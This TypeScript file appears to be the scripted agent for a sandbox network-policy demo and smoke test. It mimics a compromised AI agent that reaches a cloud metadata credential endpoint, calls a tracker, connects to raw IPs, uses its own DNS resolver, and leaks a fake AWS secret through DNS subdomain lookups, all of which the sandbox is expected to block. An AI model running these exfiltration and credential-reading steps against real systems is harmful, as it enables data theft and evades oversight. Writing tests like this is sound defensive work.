/**
 * runtime/demo/agent — the scripted "agent" of `clawfence demo`. It runs inside the sandbox
 * as an unprivileged user and tries what a compromised agent would: its legitimate tool API,
 * a shadow model provider, a tracker, a raw IP, the cloud metadata service, a DNS tunnel and
 * a resolver of its own. Each step prints what the agent saw; the exit status is 0 only when
 * the allowed step worked and every other step was stopped, so the demo is also a smoke test.
 */
import { lookup, Resolver } from "node:dns/promises";
import { connect } from "node:net";
import { createSocket } from "node:dgram";

interface Step {
  readonly title: string;
  readonly expect: "allowed" | "blocked";
  run(): Promise<string>;
}

async function get(url: string): Promise<string> {
  const r = await fetch(url, { signal: AbortSignal.timeout(4000) });
  const body = await r.text();
  if (r.status !== 200) throw new Error(`HTTP ${r.status}${r.headers.get("x-clawfence-rule") ? ` (rule ${r.headers.get("x-clawfence-rule")}, ${r.headers.get("x-clawfence-reason")})` : ""}`);
  return `HTTP 200 ${body.slice(0, 60)}`;
}

function tcp(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = connect({ host, port, timeout: 3000 });
    s.once("connect", () => {
      s.destroy();
      resolve("connected");
    });
    s.once("timeout", () => {
      s.destroy();
      reject(new Error("timed out"));
    });
    s.once("error", (e) => reject(e));
  });
}

function rawDns(server: string, name: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const sock = createSocket("udp4");
    const labels = name.split(".").map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
    const q = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
    const t = setTimeout(() => {
      sock.close();
      reject(new Error("no answer (timed out)"));
    }, 2500);
    sock.once("error", (e) => {
      clearTimeout(t);
      sock.close();
      reject(e);
    });
    sock.once("message", () => {
      clearTimeout(t);
      sock.close();
      resolve("got an answer");
    });
    sock.send(q, 53, server);
  });
}

const secret = Buffer.from("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG").toString("hex");

const steps: Step[] = [
  { title: "call the tool API (http://api.tools.demo/v1/task)", expect: "allowed", run: () => get("http://api.tools.demo/v1/task") },
  { title: "send data to a shadow model provider (api.openai.com)", expect: "blocked", run: () => get("http://api.openai.com/v1/chat/completions") },
  { title: "phone home to a tracker (telemetry.tracker.demo)", expect: "blocked", run: () => get("http://telemetry.tracker.demo/collect") },
  { title: "skip DNS: raw IP of the tracker (http://198.51.100.20/)", expect: "blocked", run: () => get("http://198.51.100.20/collect") },
  { title: "raw IP, another port (198.51.100.20:8443)", expect: "blocked", run: () => tcp("198.51.100.20", 8443) },
  { title: "read cloud credentials (http://169.254.169.254/)", expect: "blocked", run: () => get("http://169.254.169.254/latest/meta-data/iam/") },
  { title: "exfiltrate through DNS (secret in a subdomain of an allowed wildcard)", expect: "blocked", run: async () => (await lookup(`${secret.slice(0, 60)}.${secret.slice(60)}.cdn.tools.demo`)).address },
  { title: "use a resolver of its own (198.51.100.53:53)", expect: "blocked", run: () => rawDns("198.51.100.53", "telemetry.tracker.demo") },
  {
    title: "ask the sandbox resolver for the tracker anyway",
    expect: "blocked",
    run: async () => {
      const r = new Resolver({ timeout: 2000, tries: 1 });
      return (await r.resolve4("telemetry.tracker.demo")).join(",");
    },
  },
];

let failures = 0;
for (const s of steps) {
  let outcome: "allowed" | "blocked";
  let detail: string;
  try {
    detail = await s.run();
    outcome = "allowed";
  } catch (e) {
    outcome = "blocked";
    const err = e as NodeJS.ErrnoException & { cause?: NodeJS.ErrnoException };
    detail = err.cause?.code ?? err.code ?? err.message;
  }
  const ok = outcome === s.expect;
  if (!ok) failures++;
  process.stdout.write(`agent: ${s.title}\n       -> ${outcome.toUpperCase()} (${detail})${ok ? "" : "   <-- UNEXPECTED"}\n`);
  await new Promise((r) => setTimeout(r, 150));
}
await new Promise((r) => setTimeout(r, 1200)); // the kernel hands its drop log over about once a second
process.stdout.write(failures === 0 ? "agent: done; everything outside the policy was stopped\n" : `agent: done; ${failures} step(s) did not go as the policy says\n`);
process.exit(failures === 0 ? 0 : 1);
